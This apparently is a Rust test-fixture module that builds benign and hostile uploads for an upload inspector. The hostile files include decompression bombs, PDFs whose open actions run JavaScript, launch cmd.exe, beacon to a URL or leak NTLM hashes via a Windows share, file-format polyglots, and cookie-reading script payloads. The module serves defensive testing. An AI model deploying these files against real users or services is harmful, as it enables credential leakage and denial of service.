//! Benign and hostile files for testing the upload inspector: the unit tests here, the
//! black-box test crate and the browser tests all make their attachments with these, so the
//! hostile kinds are built the same way everywhere. Not test-only for that reason.

use std::io::Write;

use flate2::write::ZlibEncoder;
use flate2::Compression;
use image::codecs::jpeg::JpegEncoder;
use image::codecs::png::PngEncoder;
use image::{DynamicImage, RgbImage};

/// The text the tEXt chunk of [`png_with_text_chunk`] carries, to look for in output.
pub const TEXT_CHUNK_MARKER: &str = "kabinet-secret-comment-7f3a";
/// The text the EXIF block of [`jpeg_with_exif_gps`] carries, to look for in output.
pub const EXIF_MARKER: &str = "GPSLatitude 55.7558 N GPSLongitude 37.6173 E";

/// A gradient, so encoders have something to compress and a re-encode is visibly the image.
fn picture(w: u32, h: u32) -> DynamicImage {
    let img = RgbImage::from_fn(w, h, |x, y| {
        image::Rgb([(x * 255 / w.max(1)) as u8, (y * 255 / h.max(1)) as u8, ((x + y) % 256) as u8])
    });
    DynamicImage::ImageRgb8(img)
}

/// A real RGB PNG of `w`×`h` pixels, no metadata.
pub fn png(w: u32, h: u32) -> Vec<u8> {
    let mut out = Vec::new();
    picture(w, h).write_with_encoder(PngEncoder::new(&mut out)).expect("encoding an in-memory PNG");
    out
}

/// A real JPEG of `w`×`h` pixels, no metadata besides the encoder's JFIF header.
pub fn jpeg(w: u32, h: u32) -> Vec<u8> {
    let mut out = Vec::new();
    picture(w, h).write_with_encoder(JpegEncoder::new_with_quality(&mut out, 90)).expect("encoding an in-memory JPEG");
    out
}

/// A JPEG with an EXIF APP1 segment right after SOI whose ImageDescription holds
/// [`EXIF_MARKER`] (a stand-in for a phone's location tags).
pub fn jpeg_with_exif_gps(w: u32, h: u32) -> Vec<u8> {
    with_exif(jpeg(w, h), 1)
}

/// A `w`×`h` JPEG whose EXIF says "rotate 90° clockwise" (orientation 6): shown as `h`×`w`.
pub fn jpeg_rotated(w: u32, h: u32) -> Vec<u8> {
    with_exif(jpeg(w, h), 6)
}

/// Splices a big-endian TIFF IFD0 with ImageDescription and Orientation after SOI.
fn with_exif(jpeg: Vec<u8>, orientation: u16) -> Vec<u8> {
    let description = format!("{EXIF_MARKER}\0");
    let entries = 2u16;
    let data_offset = 8 + 2 + 12 * u32::from(entries) + 4;
    let mut tiff = b"MM\0\x2a\0\0\0\x08".to_vec();
    tiff.extend_from_slice(&entries.to_be_bytes());
    // ImageDescription, ASCII, stored after the IFD.
    tiff.extend_from_slice(&0x010Eu16.to_be_bytes());
    tiff.extend_from_slice(&2u16.to_be_bytes());
    tiff.extend_from_slice(&(description.len() as u32).to_be_bytes());
    tiff.extend_from_slice(&data_offset.to_be_bytes());
    // Orientation, one SHORT, inline.
    tiff.extend_from_slice(&0x0112u16.to_be_bytes());
    tiff.extend_from_slice(&3u16.to_be_bytes());
    tiff.extend_from_slice(&1u32.to_be_bytes());
    tiff.extend_from_slice(&orientation.to_be_bytes());
    tiff.extend_from_slice(&[0, 0]);
    tiff.extend_from_slice(&0u32.to_be_bytes());
    tiff.extend_from_slice(description.as_bytes());

    let mut app1 = b"Exif\0\0".to_vec();
    app1.extend_from_slice(&tiff);
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xE1]);
    out.extend_from_slice(&((app1.len() + 2) as u16).to_be_bytes());
    out.extend_from_slice(&app1);
    out.extend_from_slice(&jpeg[2..]);
    out
}

/// A PNG chunk with its CRC.
fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut crc = crc32fast::Hasher::new();
    crc.update(kind);
    crc.update(data);
    let mut out = (data.len() as u32).to_be_bytes().to_vec();
    out.extend_from_slice(kind);
    out.extend_from_slice(data);
    out.extend_from_slice(&crc.finalize().to_be_bytes());
    out
}

/// A 16×16 PNG with a tEXt chunk "Comment" holding [`TEXT_CHUNK_MARKER`].
pub fn png_with_text_chunk() -> Vec<u8> {
    let png = png(16, 16);
    // Signature (8) and IHDR (4 + 4 + 13 + 4) come first.
    let after_ihdr = 8 + 25;
    let mut out = png[..after_ihdr].to_vec();
    out.extend_from_slice(&chunk(b"tEXt", format!("Comment\0{TEXT_CHUNK_MARKER}").as_bytes()));
    out.extend_from_slice(&png[after_ihdr..]);
    out
}

/// A PNG of a few KB whose header claims 30000×30000 grey pixels (900 MB decoded). Its IDAT
/// holds only the first rows of zeros: a decoder that trusts the header allocates the whole
/// image before it reads any of them, which is the attack.
pub fn png_pixel_bomb() -> Vec<u8> {
    let side: u32 = 30_000;
    let mut ihdr = side.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&side.to_be_bytes());
    // 8-bit greyscale, deflate, no filter method, no interlace.
    ihdr.extend_from_slice(&[8, 0, 0, 0, 0]);
    let mut z = ZlibEncoder::new(Vec::new(), Compression::best());
    let row = vec![0u8; side as usize + 1];
    for _ in 0..32 {
        z.write_all(&row).expect("compressing into memory");
    }
    png_file(&ihdr, &z.finish().expect("compressing into memory"))
}

/// A one-page A4 PDF with a line of text and the title «Квитанция ПД-4».
pub fn pdf() -> Vec<u8> {
    pdf_with("", &[])
}

/// A PDF whose catalog has `/OpenAction` to JavaScript (`app.alert(1)`).
pub fn pdf_with_javascript() -> Vec<u8> {
    pdf_with("/OpenAction 7 0 R", &["<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"])
}

/// A PDF that runs a program when opened (`/OpenAction` to a Launch action).
pub fn pdf_with_launch() -> Vec<u8> {
    pdf_with("/OpenAction 7 0 R", &["<< /Type /Action /S /Launch /F (cmd.exe) >>"])
}

/// A PDF with a document-level script whose names are hex-escaped (`/J#61vaScript`, `/J#53`),
/// so the words never appear in the bytes as written.
pub fn pdf_with_escaped_javascript() -> Vec<u8> {
    pdf_with(
        "/Names << /J#61vaScript 7 0 R >>",
        &["<< /Names [(init) 8 0 R] >>", "<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"],
    )
}

/// A PDF with an HTML script in a string, for viewers that sniff content.
pub fn pdf_with_html() -> Vec<u8> {
    pdf_with("", &["(<script>alert\\(document.cookie\\)</script>)"])
}

/// A benign PDF that opens at its first page, fitted (`/OpenAction [page /Fit]`), as office
/// suites write.
pub fn pdf_opening_at_page() -> Vec<u8> {
    pdf_with("/OpenAction [3 0 R /Fit]", &[])
}

/// The sample PDF with extra catalog entries and extra objects numbered from 7, laid out by
/// hand with a correct cross-reference table.
fn pdf_with(catalog_extra: &str, extra: &[&str]) -> Vec<u8> {
    let content = "BT /F1 18 Tf 72 760 Td (Kvitantsiya PD-4) Tj ET\n72 740 m 523 740 l S";
    let title: String = "\u{FEFF}Квитанция ПД-4".encode_utf16().map(|u| format!("{u:04X}")).collect();
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> \
         /Contents 4 0 R >>"
            .to_owned(),
        format!("<< /Length {} >>\nstream\n{content}\nendstream", content.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
        format!("<< /Title <{title}> /Producer (kabinet samples) >>"),
    ];
    objects.extend(extra.iter().map(|o| (*o).to_owned()));

    let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for offset in offsets {
        out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!("trailer\n<< /Size {} /Root 1 0 R /Info 6 0 R >>\nstartxref\n{xref}\n%%EOF\n", objects.len() + 1)
            .as_bytes(),
    );
    out
}

/// A ZIP archive holding `readme.txt`, stored uncompressed.
pub fn zip() -> Vec<u8> {
    zip_at(0)
}

/// A ZIP archive whose offsets assume it starts `at` bytes into a file, so the polyglots
/// made with it open as archives too.
fn zip_at(at: usize) -> Vec<u8> {
    let name = b"readme.txt";
    let data = b"this archive rides inside another file\n";
    let crc = crc32fast::hash(data);
    let le16 = |v: u16| v.to_le_bytes();
    let le32 = |v: u32| v.to_le_bytes();
    // Version 2.0, no flags, stored, 1980-01-01 00:00.
    let common = [le16(20), le16(0), le16(0), le16(0), le16(0x21)].concat();
    let sizes = [le32(crc), le32(data.len() as u32), le32(data.len() as u32)].concat();

    let mut out = b"PK\x03\x04".to_vec();
    out.extend_from_slice(&common);
    out.extend_from_slice(&sizes);
    out.extend_from_slice(&le16(name.len() as u16));
    out.extend_from_slice(&le16(0));
    out.extend_from_slice(name);
    out.extend_from_slice(data);

    let central_at = out.len();
    out.extend_from_slice(b"PK\x01\x02");
    out.extend_from_slice(&le16(20));
    out.extend_from_slice(&common);
    out.extend_from_slice(&sizes);
    out.extend_from_slice(&le16(name.len() as u16));
    // Extra, comment, disk, internal and external attributes.
    out.extend_from_slice(&[le16(0), le16(0), le16(0), le16(0)].concat());
    out.extend_from_slice(&le32(0));
    out.extend_from_slice(&le32(at as u32));
    out.extend_from_slice(name);
    let central_len = out.len() - central_at;

    out.extend_from_slice(b"PK\x05\x06");
    out.extend_from_slice(&[le16(0), le16(0), le16(1), le16(1)].concat());
    out.extend_from_slice(&le32(central_len as u32));
    out.extend_from_slice(&le32((at + central_at) as u32));
    out.extend_from_slice(&le16(0));
    out
}

/// A valid PDF with a ZIP archive appended after `%%EOF`: both a document and an archive.
pub fn polyglot_pdf_zip() -> Vec<u8> {
    let mut out = pdf();
    out.extend_from_slice(&zip_at(out.len()));
    out
}

/// A valid JPEG with an HTML page and script appended after its end marker.
pub fn jpeg_with_html_appended() -> Vec<u8> {
    let mut out = jpeg(16, 16);
    out.extend_from_slice(b"<html><body><script>alert(document.cookie)</script></body></html>\n");
    out
}

/// An SVG image with a script in its `onload`.
pub fn svg() -> Vec<u8> {
    b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
      <svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\" onload=\"alert(document.cookie)\">\
      <rect width=\"10\" height=\"10\"/></svg>\n"
        .to_vec()
}

/// An HTML page with a script.
pub fn html() -> Vec<u8> {
    b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><script>alert(document.cookie)</script></body></html>\n"
        .to_vec()
}

/// The start of a Windows executable: the `MZ` DOS header pointing at a `PE` header.
pub fn exe_bytes() -> Vec<u8> {
    let mut out = vec![0u8; 0x80];
    out[..2].copy_from_slice(b"MZ");
    out[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    out[0x40..0x40 + 39].copy_from_slice(b"This program cannot be run in DOS mode.");
    out.extend_from_slice(b"PE\0\0");
    // Machine x86-64, no sections: enough for anything that sniffs.
    out.extend_from_slice(&0x8664u16.to_le_bytes());
    out.extend_from_slice(&[0; 18]);
    out
}

/// A 16×16 PNG with a tEXt chunk "Comment" holding `text`.
pub fn png_with_text(text: &[u8]) -> Vec<u8> {
    let png = png(16, 16);
    let after_ihdr = 8 + 25;
    let mut data = b"Comment\0".to_vec();
    data.extend_from_slice(text);
    let mut out = png[..after_ihdr].to_vec();
    out.extend_from_slice(&chunk(b"tEXt", &data));
    out.extend_from_slice(&png[after_ihdr..]);
    out
}

/// A greyscale PNG whose IDAT is zlib with stored (uncompressed) blocks and whose every row is
/// `payload`: the payload's bytes appear in the compressed data as they are, as any short
/// pattern does by chance in large images.
pub fn png_with_payload_in_pixels(payload: &[u8]) -> Vec<u8> {
    let (w, h) = (payload.len() as u32, 8u32);
    let mut ihdr = w.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&h.to_be_bytes());
    ihdr.extend_from_slice(&[8, 0, 0, 0, 0]);
    let mut z = ZlibEncoder::new(Vec::new(), Compression::none());
    for _ in 0..h {
        z.write_all(&[0]).expect("compressing into memory");
        z.write_all(payload).expect("compressing into memory");
    }
    png_file(&ihdr, &z.finish().expect("compressing into memory"))
}

/// A `w`×`h` 1-bit greyscale PNG of pseudo-random noise: decoded to 8-bit grey and
/// re-encoded, it grows several times.
pub fn png_1bit_noise(w: u32, h: u32) -> Vec<u8> {
    let mut ihdr = w.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&h.to_be_bytes());
    ihdr.extend_from_slice(&[1, 0, 0, 0, 0]);
    let mut state = 0x2545_F491_4F6C_DD1Du64;
    let mut z = ZlibEncoder::new(Vec::new(), Compression::best());
    let row_bytes = w.div_ceil(8) as usize;
    for _ in 0..h {
        let mut row = vec![0u8];
        row.extend((0..row_bytes).map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 32) as u8
        }));
        z.write_all(&row).expect("compressing into memory");
    }
    png_file(&ihdr, &z.finish().expect("compressing into memory"))
}

/// A 16×16 JPEG with a COM (comment) segment holding `text` right after SOI.
pub fn jpeg_with_comment(text: &[u8]) -> Vec<u8> {
    let jpeg = jpeg(16, 16);
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xFE]);
    out.extend_from_slice(&((text.len() + 2) as u16).to_be_bytes());
    out.extend_from_slice(text);
    out.extend_from_slice(&jpeg[2..]);
    out
}

/// A PDF opening at its first page and then, chained by `/Next`, following a web link (a
/// beacon telling the sender who opened the file and when).
pub fn pdf_open_action_next_uri() -> Vec<u8> {
    pdf_with("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://x/beacon) >> >>", &[])
}

/// A PDF opening at its first page and then, chained by `/Next`, at a document on a Windows
/// share: opening it sends the reader's NTLM hash to the host.
pub fn pdf_open_action_next_gotor() -> Vec<u8> {
    pdf_with("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToR /F (\\\\\\\\host\\\\s\\\\a.pdf) /D [0 /Fit] >> >>", &[])
}

/// A PDF opening at its first page and then, chained by `/Next`, at the same page again:
/// harmless, but a chain is refused whatever it holds.
pub fn pdf_open_action_next_goto() -> Vec<u8> {
    pdf_with("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] >> >>", &[])
}

/// A PDF with a link annotation to a web address on its page (the annotation is object 7).
pub fn pdf_with_uri_link() -> Vec<u8> {
    pdf_with(
        "",
        &["<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://example.org/) >> >>"],
    )
}

/// A PDF with a document-level script (names hex-escaped, so no raw scan finds them) in an
/// object that does not parse: lenient loading skips it, a repairing viewer may not.
pub fn pdf_with_unparsable_script() -> Vec<u8> {
    pdf_with(
        "/Names << /J#61vaScript 7 0 R >>",
        &["<< /Names [(init) << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>] /Broken [1 2 >>"],
    )
}

/// A PDF whose encryption dictionary's key is hex-escaped in the trailer (`/Encr#79pt`).
pub fn pdf_with_escaped_encrypt() -> Vec<u8> {
    let plain = pdf();
    let at = plain.windows(7).position(|w| w == b"trailer").expect("the sample has a trailer");
    let tail = String::from_utf8(plain[at..].to_vec()).expect("the trailer is ASCII");
    let mut out = plain[..at].to_vec();
    out.extend_from_slice(
        tail.replace("/Info 6 0 R", "/Info 6 0 R /Encr#79pt << /Filter /Standard /V 1 /R 2 >>").as_bytes(),
    );
    out
}

/// A PDF with a stream whose (binary) body holds `payload`, as images and fonts do.
pub fn pdf_with_stream_holding(payload: &[u8]) -> Vec<u8> {
    let body = String::from_utf8(payload.to_vec()).expect("the payload is text for the sample builder");
    pdf_with("", &[&format!("<< /Length {} >>\nstream\n{body}\nendstream", payload.len())])
}

/// A valid PDF whose catalog, page tree and page are stored in an object stream, with a
/// cross-reference stream, as pdfTeX, qpdf and Acrobat write them.
pub fn pdf_with_object_stream() -> Vec<u8> {
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    ];
    let mut index = String::new();
    let mut packed = String::new();
    for (k, object) in objects.iter().enumerate() {
        index.push_str(&format!("{} {} ", k + 1, packed.len()));
        packed.push_str(object);
        packed.push('\n');
    }
    object_stream_pdf(&index, &packed, objects.len())
}

/// A PDF of about 250 KB whose object stream lists 100 000 objects all at offset 0, where a
/// 32 768-element array `[0 0 0 …]` is: a loader that clones each listed object would build
/// 3.3 billion objects (hundreds of GB).
pub fn pdf_object_stream_bomb() -> Vec<u8> {
    let mut index = String::new();
    for k in 1..=100_000 {
        index.push_str(&format!("{k} 0 "));
    }
    let mut packed = "[".to_owned();
    packed.push_str(&"0 ".repeat(32_768));
    packed.push(']');
    object_stream_pdf(&index, &packed, 100_000)
}

/// An object stream with `index` and `packed` objects (object 5, `/N n`) holding objects 1–3,
/// a content stream (4) and a cross-reference stream (6) listing them.
pub(crate) fn object_stream_pdf(index: &str, packed: &str, n: usize) -> Vec<u8> {
    let mut z = ZlibEncoder::new(Vec::new(), Compression::default());
    z.write_all(index.as_bytes()).expect("compressing into memory");
    z.write_all(packed.as_bytes()).expect("compressing into memory");
    let compressed = z.finish().expect("compressing into memory");
    let content = b"0 0 m 100 100 l S";

    let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let content_at = out.len();
    out.extend_from_slice(format!("4 0 obj\n<< /Length {} >>\nstream\n", content.len()).as_bytes());
    out.extend_from_slice(content);
    out.extend_from_slice(b"\nendstream\nendobj\n");
    let objstm_at = out.len();
    out.extend_from_slice(
        format!(
            "5 0 obj\n<< /Type /ObjStm /N {n} /First {} /Filter /FlateDecode /Length {} >>\nstream\n",
            index.len(),
            compressed.len()
        )
        .as_bytes(),
    );
    out.extend_from_slice(&compressed);
    out.extend_from_slice(b"\nendstream\nendobj\n");
    let xref_at = out.len();
    let mut entries = Vec::new();
    let mut entry = |kind: u8, field: u32, index: u16| {
        entries.push(kind);
        entries.extend_from_slice(&field.to_be_bytes());
        entries.extend_from_slice(&index.to_be_bytes());
    };
    entry(0, 0, 65535);
    for k in 0..3 {
        entry(2, 5, k);
    }
    entry(1, content_at as u32, 0);
    entry(1, objstm_at as u32, 0);
    entry(1, xref_at as u32, 0);
    out.extend_from_slice(
        format!(
            "6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length {} >>\nstream\n",
            entries.len()
        )
        .as_bytes(),
    );
    out.extend_from_slice(&entries);
    out.extend_from_slice(format!("\nendstream\nendobj\nstartxref\n{xref_at}\n%%EOF\n").as_bytes());
    out
}

/// A PNG file of one IHDR, one IDAT and the IEND, each with its CRC.
fn png_file(ihdr: &[u8], idat: &[u8]) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    out.extend_from_slice(&chunk(b"IHDR", ihdr));
    out.extend_from_slice(&chunk(b"IDAT", idat));
    out.extend_from_slice(&chunk(b"IEND", b""));
    out
}
